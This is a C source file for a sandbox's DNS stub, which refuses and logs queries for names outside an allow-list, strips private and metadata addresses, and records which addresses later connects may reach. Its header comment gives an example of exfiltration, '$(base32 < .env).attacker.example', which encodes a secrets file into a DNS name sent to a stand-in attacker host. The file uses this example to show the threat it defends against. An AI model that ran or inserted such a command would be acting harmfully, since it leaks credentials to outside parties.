/* SPDX-License-Identifier: MIT */
/*
 * egress_dns.c — the DNS stub on the sandbox's 127.0.0.1:53 and the
 * client of the host's resolver behind it.
 *
 * A query for a name allow_net does not admit is answered NXDOMAIN here
 * and never forwarded: otherwise a secret could leave as the name itself
 * (`$(base32 < .env).attacker.example`), whatever happens to the answer.
 * Allowed names are resolved with a query of our own, and the answer the
 * sandbox gets is built from scratch from the addresses alone: no byte of
 * the upstream's message reaches it. Addresses of a class the policy
 * forbids (loopback, private, link-local such as 169.254.169.254) are
 * dropped, which stops DNS rebinding of an allowed name onto the host or
 * the cloud's metadata service. The addresses answered are remembered:
 * they are the only ones a direct connect may reach (sup_net.c).
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#include "launcher/dns_msg.h"
#include "launcher/egress_internal.h"
#include "policy/util.h"

/* ---- the addresses answered ---- */

struct table_entry {
	struct net_ip ip;
	char name[DNS_NAME_MAX + 1];
};

static pthread_mutex_t table_lock = PTHREAD_MUTEX_INITIALIZER;
static struct table_entry table[EGRESS_TABLE_SIZE];
static size_t table_used, table_next;
static unsigned shim_published; /* entries of the shim's table: our count, never read back */

/*
 * The shim's copy (shim_protocol.h), under table_lock: every address, never
 * forgotten (ours forgets the oldest), so that the shim, which refuses only
 * addresses missing there, never refuses one we would let through. Written
 * before the answer leaves the stub.
 */
static void shim_publish(const struct net_ip *ip)
{
	struct shim_net_table *t = egress_cfg->shim_table;
	if (!t)
		return;
	for (unsigned i = 0; i < shim_published; i++)
		if (t->addr[i].family == (ip->family == AF_INET6 ? 6 : 4) &&
		    memcmp(t->addr[i].a, ip->a, sizeof(ip->a)) == 0)
			return;
	if (shim_published == SHIM_NET_SLOTS) {
		/* Full: the shim stops judging connects; we still judge them all. */
		__atomic_store_n(&t->full, 1, __ATOMIC_RELEASE);
		return;
	}
	struct shim_net_addr *e = &t->addr[shim_published++];
	e->family = ip->family == AF_INET6 ? 6 : 4;
	memcpy(e->a, ip->a, sizeof(e->a));
	__atomic_store_n(&t->count, shim_published, __ATOMIC_RELEASE);
}

void egress_table_add(const struct net_ip *ip, const char *name)
{
	pthread_mutex_lock(&table_lock);
	shim_publish(ip);
	for (size_t i = 0; i < table_used; i++)
		if (net_ip_equal(&table[i].ip, ip) && strcmp(table[i].name, name) == 0) {
			pthread_mutex_unlock(&table_lock);
			return;
		}
	/* Full: the oldest goes (a connect to it then needs a fresh lookup, as after a TTL). */
	struct table_entry *e = &table[table_next];
	table_next = (table_next + 1) % EGRESS_TABLE_SIZE;
	if (table_used < EGRESS_TABLE_SIZE)
		table_used++;
	e->ip = *ip;
	snprintf(e->name, sizeof(e->name), "%s", name);
	pthread_mutex_unlock(&table_lock);
}

bool egress_admit_addr(const struct net_ip *ip0, uint16_t port, char *name, size_t namesz,
		       char *why, size_t whysz)
{
	const struct policy_blob *b = egress_cfg->blob;
	struct net_ip ip = net_ip_unmap(ip0);
	char text[64];
	bool known = false;
	net_ip_format(&ip, text, sizeof(text));
	pthread_mutex_lock(&table_lock);
	for (size_t i = 0; i < table_used; i++) {
		if (!net_ip_equal(&table[i].ip, &ip))
			continue;
		known = true;
		if (policy_blob_match_net(b, table[i].name, port) >= 0) {
			snprintf(name, namesz, "%s", table[i].name);
			pthread_mutex_unlock(&table_lock);
			return true;
		}
	}
	pthread_mutex_unlock(&table_lock);
	enum net_ip_class cls = net_ip_class(&ip);
	if (!known && policy_blob_match_net(b, text, port) >= 0) {
		if (cls == NET_IP_PUBLIC || egress_cfg->allow_private) {
			snprintf(name, namesz, "%s", text);
			return true;
		}
		snprintf(why, whysz, "%s is %s and allow_private_addresses is off", text,
			 net_ip_class_name(cls));
		return false;
	}
	if (known)
		snprintf(why, whysz, "allow_net admits no name of %s on port %u", text, port);
	else
		snprintf(why, whysz,
			 "%s is not an address the DNS stub answered for a name in allow_net",
			 text);
	return false;
}

/* ---- the host's resolver ---- */

/* One question to the host's resolver; the answer's addresses in @ans. */
static int ask_upstream(const char *name, uint16_t qtype, struct dns_answer *ans)
{
	const struct egress_config *c = egress_cfg;
	uint8_t q[512], resp[DNS_MSG_MAX];
	uint16_t id;
	struct sockaddr_storage ss;
	socklen_t sl = net_ip_to_sockaddr(&c->resolver, c->resolver_port, &ss);
	if (getrandom(&id, sizeof(id), 0) != sizeof(id))
		return -EIO;
	size_t qlen = dns_build_query(id, name, qtype, q, sizeof(q));
	if (!qlen)
		return -EINVAL;
	/* Connected: replies from anywhere but the resolver are dropped by the kernel. */
	int fd = socket(c->resolver.family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	if (connect(fd, (struct sockaddr *)&ss, sl) < 0) {
		int e = -errno;
		close(fd);
		return e;
	}
	int r = -ETIMEDOUT;
	for (int attempt = 0; attempt < 2 && r == -ETIMEDOUT; attempt++) {
		if (send(fd, q, qlen, 0) < 0) {
			r = -errno;
			break;
		}
		for (;;) {
			ssize_t n =
				egress_read_timeout(fd, resp, sizeof(resp), EGRESS_DNS_TIMEOUT_MS);
			if (n == -ETIMEDOUT)
				break;
			if (n < 0) {
				r = (int)n;
				break;
			}
			/* A forged or stale answer (wrong id or question) is ignored, not trusted. */
			if (dns_parse_answer(resp, (size_t)n, id, name, qtype, ans) == 0) {
				r = 0;
				break;
			}
		}
	}
	close(fd);
	return r;
}

/* @qtype A or AAAA, or 0 for both. */
static int resolve(const char *name, uint16_t qtype, struct net_ip *addrs, size_t max, char *why,
		   size_t whysz, bool checked)
{
	static const uint16_t types[] = { DNS_TYPE_A, DNS_TYPE_AAAA };
	size_t n = 0, forbidden = 0;
	struct net_ip first_forbidden = { 0 };
	bool nx = true;
	int err = 0;
	for (size_t t = 0; t < ARRAY_SIZE(types); t++) {
		struct dns_answer ans;
		if (qtype && types[t] != qtype)
			continue;
		int r = ask_upstream(name, types[t], &ans);
		if (r < 0) {
			err = r;
			continue;
		}
		if (ans.rcode == DNS_RCODE_NOERROR)
			nx = false;
		else if (ans.rcode != DNS_RCODE_NXDOMAIN)
			err = -EIO;
		for (size_t i = 0; i < ans.naddrs && n < max; i++) {
			struct net_ip ip = net_ip_unmap(&ans.addrs[i]);
			if (checked && !egress_cfg->allow_private &&
			    net_ip_class(&ip) != NET_IP_PUBLIC) {
				if (!forbidden++)
					first_forbidden = ip;
				continue;
			}
			addrs[n++] = ans.addrs[i];
		}
	}
	if (n) {
		if (checked)
			for (size_t i = 0; i < n; i++)
				egress_table_add(&addrs[i], name);
		return (int)n;
	}
	if (forbidden) {
		char text[64];
		struct net_ip u = net_ip_unmap(&first_forbidden);
		net_ip_format(&u, text, sizeof(text));
		snprintf(why, whysz, "%s resolves to %s, %s (allow_private_addresses is off)", name,
			 text, net_ip_class_name(net_ip_class(&u)));
		return -EACCES;
	}
	if (err)
		return err;
	snprintf(why, whysz, nx ? "%s does not exist" : "%s has no address", name);
	return -ENOENT;
}

int egress_resolve(const char *name, struct net_ip *addrs, size_t max, char *why, size_t whysz)
{
	return resolve(name, 0, addrs, max, why, whysz, true);
}

int egress_resolve_raw(const char *name, struct net_ip *addrs, size_t max, char *why, size_t whysz)
{
	return resolve(name, 0, addrs, max, why, whysz, false);
}

/* ---- who asked ---- */

static pid_t sandbox_init;

void egress_dns_set_init(pid_t init)
{
	sandbox_init = init;
}

/* The inode of the @proto socket bound to 127.0.0.1:@port in the sandbox's namespace, 0 if none. */
static unsigned long socket_inode(const char *proto, uint16_t port)
{
	char path[64], line[512];
	unsigned long found = 0;
	snprintf(path, sizeof(path), "/proc/%d/net/%s", sandbox_init, proto);
	FILE *f = fopen(path, "re");
	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		unsigned lport;
		unsigned long inode;
		if (sscanf(line, " %*u: %*[0-9A-Fa-f]:%x %*s %*s %*s %*s %*s %*s %*s %lu", &lport,
			   &inode) == 2 &&
		    lport == port)
			found = inode;
	}
	fclose(f);
	return found;
}

/* Does host process @pid hold socket:[@inode]? */
static bool holds_socket(pid_t pid, unsigned long inode)
{
	char path[64], want[48], link[64];
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	snprintf(want, sizeof(want), "socket:[%lu]", inode);
	DIR *d = opendir(path);
	struct dirent *e;
	bool hit = false;
	while (d && !hit && (e = readdir(d))) {
		char fdpath[64 + sizeof(e->d_name)];
		snprintf(fdpath, sizeof(fdpath), "%s/%s", path, e->d_name);
		ssize_t n = readlink(fdpath, link, sizeof(link) - 1);
		if (n > 0) {
			link[n] = 0;
			hit = strcmp(link, want) == 0;
		}
	}
	if (d)
		closedir(d);
	return hit;
}

/*
 * Who is at the other end of a connection from 127.0.0.1:@port (@proto
 * "udp" or "tcp")? Neither carries credentials (SO_PEERCRED is for unix
 * sockets), so the socket is found in the sandbox's namespace and its
 * holder among init's descendants (breadth-first through
 * /proc/PID/task/TID/children, at most 4,096 processes). Only for the
 * record of a denial; 0 when unknown.
 */
pid_t egress_sender(const char *proto, uint16_t port)
{
	enum { MAX = 4096 };
	unsigned long inode = sandbox_init > 0 ? socket_inode(proto, port) : 0;
	if (!inode)
		return 0;
	pid_t *queue = malloc(MAX * sizeof(*queue)), found = 0;
	size_t head = 0, tail = 0;
	if (!queue)
		return 0;
	queue[tail++] = sandbox_init;
	while (head < tail && !found) {
		pid_t pid = queue[head++];
		if (pid != sandbox_init && holds_socket(pid, inode)) {
			found = pid;
			break;
		}
		char path[64], buf[4096];
		snprintf(path, sizeof(path), "/proc/%d/task/%d/children", pid, pid);
		FILE *f = fopen(path, "re");
		if (!f)
			continue;
		size_t n = fread(buf, 1, sizeof(buf) - 1, f);
		fclose(f);
		buf[n] = 0;
		for (char *p = buf, *end; *p && tail < MAX; p = end) {
			long c = strtol(p, &end, 10);
			if (end == p)
				break;
			queue[tail++] = (pid_t)c;
		}
	}
	free(queue);
	return found;
}

/* ---- the stub ---- */

/* The answer to one query, in @out; 0 when there is nothing to send. */
static size_t answer(const uint8_t *msg, size_t len, pid_t peer, uint16_t udp_port, uint8_t *out,
		     size_t outsz)
{
	struct dns_query q;
	int r = dns_parse_query(msg, len, &q);
	/* Not a standard query, or not class IN: NOTIMP, echoing what dns_parse_query() read. */
	if (r == -EOPNOTSUPP || (r == 0 && q.qclass != DNS_CLASS_IN))
		return dns_build_reply(&q, DNS_RCODE_NOTIMP, NULL, 0, 0, out, outsz);
	if (r < 0)
		return 0; /* not a query we can even answer FORMERR to with its question */
	char why[512];
	struct net_ip lit;
	/* An address asked as a name: no resolver has anything to add; never forwarded. */
	if (net_ip_parse(q.name, &lit) == 0)
		return dns_build_reply(&q, DNS_RCODE_NXDOMAIN, NULL, 0, 0, out, outsz);
	if (policy_blob_match_net(egress_cfg->blob, q.name, 0) < 0) {
		snprintf(why, sizeof(why),
			 "allow_net lacks %s: answered NXDOMAIN, the query was not forwarded",
			 q.name[0] ? q.name : ".");
		if (!peer && udp_port)
			peer = egress_sender("udp", udp_port);
		egress_deny(peer, "dns", "dns", NULL, q.name[0] ? q.name : ".", 0, why);
		return dns_build_reply(&q, DNS_RCODE_NXDOMAIN, NULL, 0, 0, out, outsz);
	}
	if (q.qtype != DNS_TYPE_A && q.qtype != DNS_TYPE_AAAA)
		/* Other types (HTTPS, MX, TXT) of an allowed name: no data; addresses are all we serve. */
		return dns_build_reply(&q, DNS_RCODE_NOERROR, NULL, 0, 0, out, outsz);
	struct net_ip addrs[DNS_ANSWERS_MAX];
	int n = resolve(q.name, q.qtype, addrs, DNS_ANSWERS_MAX, why, sizeof(why), true);
	if (n == -EACCES) {
		if (!peer && udp_port)
			peer = egress_sender("udp", udp_port);
		egress_deny(peer, "dns", "dns", NULL, q.name, 0, why);
		return dns_build_reply(&q, DNS_RCODE_NXDOMAIN, NULL, 0, 0, out, outsz);
	}
	if (n == -ENOENT)
		return dns_build_reply(&q, DNS_RCODE_NXDOMAIN, NULL, 0, 0, out, outsz);
	if (n < 0)
		return dns_build_reply(&q, DNS_RCODE_SERVFAIL, NULL, 0, 0, out, outsz);
	return dns_build_reply(&q, DNS_RCODE_NOERROR, addrs, (size_t)n, 60, out, outsz);
}

static atomic_int dns_jobs;

struct udp_job {
	int fd;
	struct sockaddr_storage from;
	socklen_t fromlen;
	size_t len;
	uint8_t msg[DNS_MSG_MAX];
};

static void *udp_job_main(void *arg)
{
	struct udp_job *j = arg;
	uint8_t out[DNS_MSG_MAX];
	uint16_t port = 0;
	if (j->from.ss_family == AF_INET)
		port = ntohs(((struct sockaddr_in *)&j->from)->sin_port);
	size_t n = answer(j->msg, j->len, 0, port, out, sizeof(out));
	if (n)
		sendto(j->fd, out, n, MSG_NOSIGNAL, (struct sockaddr *)&j->from, j->fromlen);
	free(j);
	atomic_fetch_sub(&dns_jobs, 1);
	return NULL;
}

void *egress_dns_serve_udp(void *arg)
{
	int fd = *(int *)arg;
	for (;;) {
		struct udp_job *j = malloc(sizeof(*j));
		if (!j) {
			poll(NULL, 0, 10);
			continue;
		}
		j->fd = fd;
		j->fromlen = sizeof(j->from);
		ssize_t n = recvfrom(fd, j->msg, sizeof(j->msg), 0, (struct sockaddr *)&j->from,
				     &j->fromlen);
		if (n < 0) {
			free(j);
			if (errno == EINTR || errno == ENOMEM || errno == ENOBUFS)
				continue;
			return NULL;
		}
		j->len = (size_t)n;
		/* Each allowed query waits on the host's resolver: on a thread of its own, bounded. */
		pthread_t t;
		pthread_attr_t attr;
		bool started = false;
		if (atomic_fetch_add(&dns_jobs, 1) < EGRESS_MAX_DNS_JOBS) {
			pthread_attr_init(&attr);
			pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
			pthread_attr_setstacksize(&attr, 256 * 1024);
			started = pthread_create(&t, &attr, udp_job_main, j) == 0;
			pthread_attr_destroy(&attr);
		}
		if (!started) {
			atomic_fetch_sub(&dns_jobs, 1);
			struct dns_query q;
			uint8_t out[512];
			size_t len = dns_parse_query(j->msg, j->len, &q) == 0
					     ? dns_build_reply(&q, DNS_RCODE_SERVFAIL, NULL, 0, 0,
							       out, sizeof(out))
					     : 0;
			if (len)
				sendto(fd, out, len, MSG_NOSIGNAL, (struct sockaddr *)&j->from,
				       j->fromlen);
			free(j);
		}
	}
}

/* DNS over TCP (RFC 7766): two-byte length, message; several per connection. */
void egress_dns_serve_tcp_conn(int fd, pid_t peer)
{
	uint8_t msg[DNS_MSG_MAX], out[DNS_MSG_MAX + 2];
	for (;;) {
		uint8_t lenb[2];
		size_t got = 0;
		while (got < 2) {
			ssize_t n = egress_read_timeout(fd, lenb + got, 2 - got,
							EGRESS_HEAD_TIMEOUT_MS);
			if (n <= 0)
				return;
			got += (size_t)n;
		}
		size_t len = (size_t)lenb[0] << 8 | lenb[1];
		if (len == 0 || len > sizeof(msg))
			return;
		for (got = 0; got < len;) {
			ssize_t n = egress_read_timeout(fd, msg + got, len - got,
							EGRESS_HEAD_TIMEOUT_MS);
			if (n <= 0)
				return;
			got += (size_t)n;
		}
		size_t n = answer(msg, len, peer, 0, out + 2, sizeof(out) - 2);
		if (!n)
			return;
		out[0] = (uint8_t)(n >> 8);
		out[1] = (uint8_t)n;
		if (egress_write_all(fd, out, n + 2) < 0)
			return;
	}
}
